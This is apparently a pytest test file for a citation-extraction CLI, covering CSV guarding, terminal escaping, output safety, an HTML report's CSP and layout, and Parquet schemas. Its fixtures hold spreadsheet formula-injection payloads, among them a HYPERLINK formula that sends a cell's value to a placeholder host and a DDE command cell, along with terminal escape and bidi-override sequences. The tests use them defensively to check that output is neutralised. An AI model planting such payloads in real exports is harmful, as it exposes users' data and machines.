"""`extractor cites` behaves like the tools people trust (issue 13), and across languages
(issue 11): guarded CSV, escaped terminal text aligned by display width, outputs replaced
only on success, `-` for stdin and stdout, one-line errors for unknown kinds and suffixes,
a report with a Content-Security-Policy, plurals, page languages and a layout that fits,
summary entries as objects, Parquet lists as `list<struct>`, and `--lang`.

Every case runs the real command in a subprocess over small hand-made records files; the
layout is measured in headless Chromium (skipped without it, except under CI).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_cites_hostile import GOLDEN_LINES
from tests.test_cites_report import _chromium, _is_error
from tools.devtools import Chromium

Record = dict[str, Any]


def cites(
    *args: str, cwd: Path, stdin: bytes | None = None, env: dict[str, str] | None = None
) -> tuple[int, bytes, str]:
    """Exit code, stdout (bytes) and stderr of `extractor cites ARGS` in a subprocess."""
    result = subprocess.run(
        [sys.executable, "-m", "extractor", "cites", *args],
        capture_output=True,
        cwd=cwd,
        input=stdin,
        timeout=300,
        env=env,
    )
    return result.returncode, result.stdout, result.stderr.decode("utf-8")


def one_line(err: str, *words: str) -> None:
    """stderr is one line, without a traceback or click's usage block, holding ``words``."""
    assert 1 == len(err.strip().splitlines()), err
    assert "Traceback" not in err and "Usage:" not in err, err
    for word in words:
        assert word in err, err


def cite(index: int, **fields: Any) -> Record:
    return {
        "index": index, "section": 0, "kind": "web", "template": "cite web", "title": None,
        "url": None, "work": None, "date": None, "authors": [], "editors": [], "ref": None,
        "identifiers": [], "problems": [], **fields,
    }  # fmt: skip


def page(title: str, lang: str | None, *citations: Record) -> Record:
    return {"schema_version": "1.1", "title": title, "lang": lang, "redirect": None,
            "sections": [{"index": 0, "title": None}], "citations": list(citations)}  # fmt: skip


def jsonl(path: Path, *records: Record) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


#: Cells a spreadsheet would run (OWASP's examples and the issue's).
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "@SUM(A1:A2)",
            "+cmd|' /C calc'!A0", "-2+3", "\tx=1", "\rx=1"]  # fmt: skip


@pytest.fixture
def formulas(tmp_path: Path) -> Path:
    """One citation per formula (in its title, work and a problem), on a page with a
    negative page id: a number we write ourselves."""
    record = page("=Page", "en", *(cite(i, title=f, work=f, problems=[f])
                                   for i, f in enumerate(FORMULAS)))  # fmt: skip
    record["page_id"] = -7
    return jsonl(tmp_path / "r.jsonl", record)


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


# --- 1. CSV formula injection ------------------------------------------------------------


def test_csv_cells_that_start_a_formula_are_guarded(formulas: Path) -> None:
    """By default every text cell starting with = + - @ tab or CR gets a leading `'`; the
    numbers and booleans we write stay as they are; --no-csv-guard writes them raw."""
    code, out, err = cites("list", formulas.name, "--format", "csv", cwd=formulas.parent)
    assert (0, "") == (code, err)
    rows = read_csv(out)
    assert ["'" + f for f in FORMULAS] == [r["title"] for r in rows] == [r["work"] for r in rows]
    assert ["'=Page"] * len(FORMULAS) == [r["page_title"] for r in rows]
    assert [json.dumps([f]) for f in FORMULAS] == [r["problems"] for r in rows]  # `[`: safe
    assert {("-7", "1", "false")} == {(r["page_id"], r["problem_count"], r["dead"]) for r in rows}
    assert [str(i) for i in range(len(FORMULAS))] == [r["index"] for r in rows]
    code, out, err = cites("list", formulas.name, "-o", "raw.csv", "--no-csv-guard",
                           cwd=formulas.parent)  # fmt: skip
    assert (0, "") == (code, err)
    raw = read_csv((formulas.parent / "raw.csv").read_bytes())
    assert FORMULAS == [r["title"] for r in raw] and {"=Page"} == {r["page_title"] for r in raw}


# --- 2. terminal text --------------------------------------------------------------------

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"


def test_the_terminal_never_gets_a_control_character(tmp_path: Path) -> None:
    """ESC, BEL, C1 and bidi overrides in any value are shown as escapes, in the table and
    the summary alike."""
    jsonl(tmp_path / "r.jsonl", page(f"P{HOSTILE}", None, cite(0, title=HOSTILE, work=HOSTILE,
                                                              url="https://a.org/")))  # fmt: skip
    shown = "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202eevil"
    for args in (["list"], ["list", "-o", "t.txt"], ["summary"], ["summary", "--top", "1"]):
        code, out, err = cites(*args, "r.jsonl", cwd=tmp_path)
        if "-o" in args:
            out = (tmp_path / "t.txt").read_bytes()
        text = out.decode("utf-8")
        assert (0, "") == (code, err), args
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), args
        assert shown in text, args


def _columns(line: str) -> list[int]:
    """Where (in terminal columns) each cell of a table line starts."""
    starts, at, gap = [], 0, 2
    for ch in line:
        if ch != " " and gap >= 2:
            starts.append(at)
        gap = gap + 1 if ch == " " else 0
        at += 2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1
    return starts


def test_the_table_pads_wide_text_by_display_width(tmp_path: Path) -> None:
    """CJK titles and works take two columns a character: every column starts at the same
    terminal column on every line, a cut cell included."""
    titles = ["日本語の題名", "abc", "한국어 제목입니다", "中" * 30, "mixed 東京 text"]
    jsonl(tmp_path / "r.jsonl", page("東京", "ja", *(cite(i, title=t, work=t[::-1], date="2001")
                                                   for i, t in enumerate(titles))))  # fmt: skip
    code, out, _ = cites("list", "r.jsonl", "--columns", "page_title,title,work,year",
                         cwd=tmp_path)  # fmt: skip
    lines = out.decode("utf-8").splitlines()
    assert 0 == code and len(titles) + 2 == len(lines)
    header = _columns(lines[0])
    assert 4 == len(header)
    for line in lines[2:]:
        assert header == _columns(line), line
    assert "…" in lines[5]


# --- 3. outputs replaced only on success -------------------------------------------------

FAILING = [
    ("list", "-o", "keep.csv"),
    ("list", "-o", "keep.jsonl"),
    ("list", "-o", "keep.parquet"),
    ("list", "-o", "keep.txt"),
    ("report", "-o", "keep.html"),
    ("summary", "-o", "keep.json"),
]


@pytest.mark.parametrize("args", FAILING, ids=[a[-1] for a in FAILING])
@pytest.mark.parametrize("source", ["missing.jsonl", "bad.jsonl"])
def test_a_failing_command_leaves_its_output_untouched(
    args: tuple[str, ...], source: str, tmp_path: Path
) -> None:
    """Exit 2 (a missing input, or a bad line after rows were written): the file that was
    there is byte for byte what it was, and no temporary file is left."""
    pytest.importorskip("pyarrow")
    lines = GOLDEN_LINES.splitlines(keepends=True)
    (tmp_path / "bad.jsonl").write_bytes(b"".join(lines[:3]) + b'{"title": \n')
    target = tmp_path / args[-1]
    target.write_bytes(b"precious\n")
    before = sorted(os.listdir(tmp_path))
    code, _, err = cites(args[0], source, *args[1:], cwd=tmp_path)
    assert 2 == code
    one_line(err, source)
    assert b"precious\n" == target.read_bytes()
    assert before == sorted(os.listdir(tmp_path))


def test_a_replaced_output_keeps_its_permissions_and_links(tmp_path: Path) -> None:
    """Success replaces the file whole: its mode is kept, a link to it stays a link, a
    new file gets the umask's mode, and a device is written in place."""
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    old = tmp_path / "old.csv"
    old.write_text("old\n")
    old.chmod(0o640)
    (tmp_path / "link.csv").symlink_to("old.csv")
    code, _, err = cites("list", "r.jsonl", "-o", "link.csv", cwd=tmp_path)
    assert (0, "") == (code, err)
    assert (tmp_path / "link.csv").is_symlink() and 0o640 == old.stat().st_mode & 0o777
    assert old.read_text(encoding="utf-8").startswith("page_id,page_title,page_lang,")
    code, _, err = cites("list", "r.jsonl", "-o", "new.csv", cwd=tmp_path)
    mask = os.umask(0)
    os.umask(mask)
    assert (0, "") == (code, err)
    assert 0o666 & ~mask == (tmp_path / "new.csv").stat().st_mode & 0o777
    code, _, err = cites("list", "r.jsonl", "-o", os.devnull, "--format", "csv", cwd=tmp_path)
    assert (0, "") == (code, err) and Path(os.devnull).is_char_device()
    assert {"r.jsonl", "old.csv", "link.csv", "new.csv"} == set(os.listdir(tmp_path))


# --- 4. `-` is stdin and stdout ----------------------------------------------------------


def test_dash_is_stdout_for_every_command_and_stdin_as_input(tmp_path: Path) -> None:
    """`-o -` writes to stdout (no file named `-`); an INPUT `-` reads stdin."""
    pq = pytest.importorskip("pyarrow.parquet")
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    code, listed, _ = cites("list", "r.jsonl", "--format", "jsonl", cwd=tmp_path)
    assert 0 == code
    for args, check in (
        (["list", "-", "-o", "-", "--format", "jsonl"], lambda out: out == listed),
        (["list", "-", "-o", "-"], lambda out: out.split()[:2] == [b"page_title", b"kind"]),
        (["summary", "-", "-o", "-", "--format", "json"],
         lambda out: json.loads(out)["citations"] == len(listed.splitlines())),
        (["report", "-", "-o", "-"], lambda out: out.startswith(b"<!DOCTYPE html>")),
        (["list", "-", "-o", "-", "--format", "parquet"],
         lambda out: pq.read_table(io.BytesIO(out)).num_rows == len(listed.splitlines())),
    ):  # fmt: skip
        code, out, err = cites(*args, cwd=tmp_path, stdin=GOLDEN_LINES)
        assert (0, "", True) == (code, err, check(out)), args
    assert ["r.jsonl"] == os.listdir(tmp_path)


# --- 5. unknown kinds and suffixes -------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["list", "--kind", "journal", "--kind", "blog"], ["'blog'", "journal, legislation"]),
        (["summary", "--kind", "Webb"], ["'Webb'", "bare, biorxiv"]),
        (["report", "-o", "r.html", "--kind", "nope"], ["'nope'"]),
        (["list", "-o", "out.xlsx"], ["out.xlsx", "'.xlsx'", ".csv", ".jsonl", ".parquet"]),
        (["list", "-o", "out"], ["-o out", "no suffix", "--format"]),
        (["summary", "-o", "out.md"], ["'.md'", ".json", ".txt"]),
        (["list", "--lang", "de!"], ["--lang", "'de!'"]),
        (["list", "--columns", "kind,nope"], ["nope", "page_title"]),
    ],
)
def test_unknown_kinds_and_suffixes_are_one_line_usage_errors(
    args: list[str], words: list[str], tmp_path: Path
) -> None:
    """Exit 2, one line listing what is valid, nothing read and nothing written."""
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    code, out, err = cites(args[0], "r.jsonl", *args[1:], cwd=tmp_path)
    assert (2, b"") == (code, out)
    one_line(err, *words)
    assert ["r.jsonl"] == os.listdir(tmp_path)


def test_kind_ignores_case_and_format_overrides_the_suffix(tmp_path: Path) -> None:
    """`--kind WEB` is `--kind web`; `--format` writes any name; `.txt` is the table."""
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    lower = cites("list", "r.jsonl", "--kind", "web", "--format", "jsonl", cwd=tmp_path)
    upper = cites("list", "r.jsonl", "--kind", "WEB", "--kind", "Bare", "--format", "jsonl",
                  cwd=tmp_path)  # fmt: skip
    bare = cites("list", "r.jsonl", "--kind", "bare", "--format", "jsonl", cwd=tmp_path)
    assert 0 == lower[0] == upper[0] and lower[1] and bare[1]
    assert sorted(lower[1].splitlines() + bare[1].splitlines()) == sorted(upper[1].splitlines())
    assert 0 == cites("list", "r.jsonl", "-o", "rows.xlsx", "--format", "csv", cwd=tmp_path)[0]
    assert (tmp_path / "rows.xlsx").read_text().startswith("page_id,")
    assert 0 == cites("list", "r.jsonl", "-o", "rows.txt", cwd=tmp_path)[0]
    assert ["page_title", "kind"] == (tmp_path / "rows.txt").read_text().split()[:2]
    assert 0 == cites("summary", "r.jsonl", "-o", "s.json", cwd=tmp_path)[0]
    assert json.loads((tmp_path / "s.json").read_text())["citations"] > 0


# --- 6. the report -----------------------------------------------------------------------


def _sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_the_report_has_a_strict_content_security_policy(tmp_path: Path) -> None:
    """A CSP `<meta>` before anything else loads: nothing but the page's own style sheet
    and script (by hash), no inline style attribute, no 'unsafe-inline'."""
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    assert 0 == cites("report", "r.jsonl", "-o", "r.html", cwd=tmp_path)[0]
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert found is not None and html.index(found.group()) < html.index("<style>")
    policy = dict(d.strip().split(" ", 1) for d in found.group(1).split(";"))
    style = re.search(r"<style>(.*?)</style>", html, re.S)
    script = re.search(r"<script>(.*?)</script>", html, re.S)
    assert style is not None and script is not None
    assert {
        "default-src": "'none'",
        "style-src": _sha256(style.group(1)),
        "script-src": _sha256(script.group(1)),
        "img-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    } == policy
    assert not re.search(r"<[a-z][^>]*\sstyle=", html) and "unsafe" not in found.group(1)


def test_the_report_says_one_citation_and_shows_each_pages_language(tmp_path: Path) -> None:
    """Singular for one; `Berlin` of the German and of the English wiki are two pages,
    each shown with its language."""
    jsonl(tmp_path / "one.jsonl", page("Solo", "en", cite(0, title="Only")))
    assert 0 == cites("report", "one.jsonl", "-o", "one.html", cwd=tmp_path)[0]
    html = (tmp_path / "one.html").read_text(encoding="utf-8")
    assert "1 citation in 1 page" in html and "in 1 page<" in html
    assert not re.search(r"\b1 (citations|pages)\b", html)
    jsonl(tmp_path / "two.jsonl", page("Berlin", "de", cite(0, title="A"), cite(1, title="B")),
          page("Berlin", "en", cite(0, title="C")), page("Leer", "fr"))  # fmt: skip
    assert 0 == cites("report", "two.jsonl", "-o", "two.html", cwd=tmp_path)[0]
    html = (tmp_path / "two.html").read_text(encoding="utf-8")
    assert "3 citations in 3 pages · two.jsonl · de, en, fr" in html
    assert 'Berlin <span class="badge lang">de</span>' in html
    assert 'Berlin <span class="badge lang">en</span>' in html
    assert 'Leer <span class="badge lang">fr</span>' in html
    assert "<h2>Languages" in html
    rows = json.loads(re.findall(r'id="cites-rows">(.*?)</script>', html)[0])
    assert [("Berlin", "de"), ("Berlin", "de"), ("Berlin", "en")] == [
        (r[rows["columns"].index("page")], r[rows["columns"].index("lang")]) for r in rows["rows"]
    ]


# --- 6b. the report's layout, in Chromium ------------------------------------------------

LONG = "https://example.org/" + "a" * 400


@pytest.fixture(scope="module")
def layout_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of a page of long, unbreakable values (first, so its rows are shown), then
    the goldens."""
    folder = tmp_path_factory.mktemp("layout")
    long_page = page(
        "T" * 300, "de",
        cite(0, url=LONG, authors=[{"last": "L" * 200, "first": "F" * 100}], work="W" * 200,
             identifiers=[{"kind": "doi", "value": "10.1/" + "d" * 200, "valid": False}]),
        cite(1, title="X" * 300, url="https://" + "sub." * 40 + "example.org/", work="Y" * 300),
    )  # fmt: skip
    (folder / "r.jsonl").write_bytes((json.dumps(long_page) + "\n").encode() + GOLDEN_LINES)
    code, _, err = cites("report", "r.jsonl", "-o", "r.html", cwd=folder)
    assert (0, "") == (code, err)
    return folder / "r.html"


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    _chromium()
    browser = Chromium(tmp_path_factory.mktemp("profile"), _chromium())
    try:
        for domain in ("Page", "Runtime", "Log"):
            browser.send(f"{domain}.enable")
        yield browser
    finally:
        browser.close()


def _load(browser: Chromium, report: Path, width: int) -> None:
    browser.send("Emulation.setDeviceMetricsOverride", width=width, height=900,
                 deviceScaleFactor=1, mobile=width < 600)  # fmt: skip
    browser.events.clear()
    browser.send("Page.navigate", url=report.as_uri())
    browser.wait_for("Page.loadEventFired")
    browser.js("1")


@pytest.mark.parametrize("width", [420, 1024, 1400, 1600])
def test_the_report_fits_the_window(chromium: Chromium, layout_report: Path, width: int) -> None:
    """No sideways scroll of the page at any width: charts and panels fit, the citation
    table scrolls inside its own box (and at 1400 px and wider, not even there); no
    console error, so the CSP blocks nothing the page needs."""
    _load(chromium, layout_report, width)
    assert width == chromium.js("window.innerWidth")
    assert width >= chromium.js("document.documentElement.scrollWidth")
    outside = chromium.js(
        "[...document.querySelectorAll('svg.chart, .panel, .card, header, .tools')]"
        ".filter(e => e.getBoundingClientRect().right > window.innerWidth + 0.5).length"
    )
    assert 0 == outside
    assert 50 == chromium.js("document.querySelectorAll('#cites-body tr').length")
    box = chromium.js(
        "(() => { const s = document.querySelector('.scroll'); "
        "return [s.scrollWidth, s.clientWidth]; })()"
    )
    if width >= 1400:
        assert box[0] <= box[1], box
    assert [] == [e for e in chromium.events if _is_error(e)]


def test_the_table_counts_in_the_singular(chromium: Chromium, tmp_path: Path) -> None:
    """The table's line says `1 citation`, not `1 citations`."""
    jsonl(tmp_path / "one.jsonl", page("Solo", "en", cite(0, title="Only")))
    assert 0 == cites("report", "one.jsonl", "-o", "one.html", cwd=tmp_path)[0]
    _load(chromium, tmp_path / "one.html", 1024)
    assert "Showing 1–1 of 1 citation" == chromium.js("document.getElementById('info').textContent")


# --- 7. summary entries are objects ------------------------------------------------------


def test_summary_json_entries_are_objects(tmp_path: Path) -> None:
    """Every top list is `[{"name", "count"}]`; pages add their `lang`; languages count."""
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    code, out, _ = cites("summary", "r.jsonl", "--format", "json", cwd=tmp_path)
    data = json.loads(out)
    assert 0 == code
    for name in ("kinds", "templates", "domains", "works", "publishers", "problems"):
        assert data[name] and all(["name", "count"] == list(e) for e in data[name]), name
        assert all(isinstance(e["count"], int) for e in data[name])
    assert all(["name", "lang", "count"] == list(p) for p in data["most_cited_pages"])
    assert all(["name", "lang"] == list(p) for p in data["pages_without_citations"]["pages"])
    assert data["citations"] == sum(lang["citations"] for lang in data["languages"])


# --- 8. Parquet lists --------------------------------------------------------------------


def test_parquet_lists_are_structs_with_the_schema_version(tmp_path: Path) -> None:
    """identifiers, authors, editors and problems are list<struct>; the file metadata has
    the records' schema version."""
    pq = pytest.importorskip("pyarrow.parquet")
    people = [{"last": "Müller", "first": "Hans", "link": "Hans Müller"},
              {"last": "Doe", "first": None, "link": None}]  # fmt: skip
    ids = [
        {"kind": "doi", "value": "10.1/x", "valid": True, "raw": "10.1/x", "problem": None},
        {"kind": "isbn", "value": "123", "valid": False, "raw": "123", "problem": "short"},
    ]
    jsonl(tmp_path / "r.jsonl", page("P", "de", cite(0, authors=people, editors=people[1:],
          identifiers=ids, problems=["url without a scheme in url=x.org"]), cite(1)))  # fmt: skip
    assert 0 == cites("list", "r.jsonl", "-o", "t.parquet", cwd=tmp_path)[0]
    path = tmp_path / "t.parquet"
    assert b"1.1" == pq.read_metadata(path).metadata[b"extractor.schema_version"]
    schema = pq.read_schema(path)
    assert "list<element: struct<last: string, first: string, link: string>>" == str(
        schema.field("authors").type
    )
    assert "list<element: struct<kind: string, value: string, valid: bool>>" == str(
        schema.field("identifiers").type
    )
    assert "list<element: struct<type: string, text: string>>" == str(schema.field("problems").type)
    rows = pq.read_table(path, columns=["authors", "editors", "identifiers", "problems"])
    assert [
        {"authors": people, "editors": people[1:],
         "identifiers": [{k: i[k] for k in ("kind", "value", "valid")} for i in ids],
         "problems": [{"type": "url without a scheme",
                       "text": "url without a scheme in url=x.org"}]},
        {"authors": None, "editors": None, "identifiers": None, "problems": None},
    ] == rows.to_pylist()  # fmt: skip


def test_duckdb_queries_the_parquet_lists(tmp_path: Path) -> None:
    """DuckDB unnests the lists and reads the schema version (when DuckDB is installed)."""
    duckdb = pytest.importorskip("duckdb")
    (tmp_path / "r.jsonl").write_bytes(GOLDEN_LINES)
    assert 0 == cites("list", "r.jsonl", "-o", "t.parquet", cwd=tmp_path)[0]
    table = str(tmp_path / "t.parquet")
    kinds = duckdb.sql(f"SELECT i.kind, count(*) FROM (SELECT unnest(identifiers) AS i "
                       f"FROM '{table}') GROUP BY ALL").fetchall()  # fmt: skip
    assert kinds and all(isinstance(n, int) for _, n in kinds)
    authors = duckdb.sql(f"SELECT count(*) FROM '{table}', unnest(authors) AS t(a) "
                         "WHERE a.last IS NOT NULL").fetchall()  # fmt: skip
    assert authors[0][0] > 0
    version = duckdb.sql(f"SELECT value FROM parquet_kv_metadata('{table}') "
                         "WHERE key = 'extractor.schema_version'").fetchall()  # fmt: skip
    assert [(b"1.2",)] == version


# --- 9. --lang ---------------------------------------------------------------------------


@pytest.fixture
def languages(tmp_path: Path) -> Path:
    return jsonl(
        tmp_path / "r.jsonl",
        page("Berlin", "de", cite(0, url="https://a.de/", identifiers=[
            {"kind": "doi", "value": "10.1/x", "valid": True}]), cite(1, problems=["p"])),
        page("Berlin", "en", cite(0)),
        page("Leer", "de"),
        page("Unbekannt", None, cite(0)),
    )  # fmt: skip


def test_summary_counts_per_language_and_lang_filters(languages: Path) -> None:
    """The summary's `languages` counts each language's pages and citations; `--lang` (any
    case, repeatable) keeps those pages only; the text has a table when there are several."""
    folder = languages.parent
    code, out, _ = cites("summary", "r.jsonl", "--format", "json", cwd=folder)
    assert 0 == code
    assert [
        {"name": "de", "pages": 2, "pages_with_citations": 1, "citations": 2,
         "with_identifier": 1, "with_url": 1, "with_problems": 1},
        {"name": "en", "pages": 1, "pages_with_citations": 1, "citations": 1,
         "with_identifier": 0, "with_url": 0, "with_problems": 0},
        {"name": None, "pages": 1, "pages_with_citations": 1, "citations": 1,
         "with_identifier": 0, "with_url": 0, "with_problems": 0},
    ] == json.loads(out)["languages"]  # fmt: skip
    code, out, _ = cites("summary", "r.jsonl", "--format", "json", "--lang", "DE", cwd=folder)
    german = json.loads(out)
    assert (0, 4, 2, 2) == (code, german["records"], german["pages"], german["citations"])
    assert [{"name": "Leer", "lang": "de"}] == german["pages_without_citations"]["pages"]
    assert ["de"] == [lang["name"] for lang in german["languages"]]
    code, out, _ = cites("summary", "r.jsonl", "--lang", "de", "--lang", "en", cwd=folder)
    text = out.decode()
    assert 0 == code and text.startswith("3 citations in 2 of 3 pages")
    assert re.search(r"^Language +pages +citations", text, re.M)
    assert re.search(r"^de +2 +2 +66\.7%", text, re.M)
    assert "Berlin (de)" in text and "Berlin (en)" in text
    code, out, _ = cites("summary", "r.jsonl", "--lang", "en", cwd=folder)
    assert 0 == code and "Language" not in out.decode()


def test_list_lang_keeps_the_rows_of_those_pages(languages: Path) -> None:
    """Rows carry `page_lang`; `--lang` keeps the rows of pages of that language."""
    code, out, _ = cites("list", "r.jsonl", "--format", "jsonl", "--lang", "de",
                         cwd=languages.parent)  # fmt: skip
    rows = [json.loads(line) for line in out.splitlines()]
    assert 0 == code and [("Berlin", "de")] * 2 == [(r["page_title"], r["page_lang"]) for r in rows]
    code, out, _ = cites("list", "r.jsonl", "--format", "jsonl", cwd=languages.parent)
    assert ["de", "de", "en", None] == [json.loads(line)["page_lang"] for line in out.splitlines()]
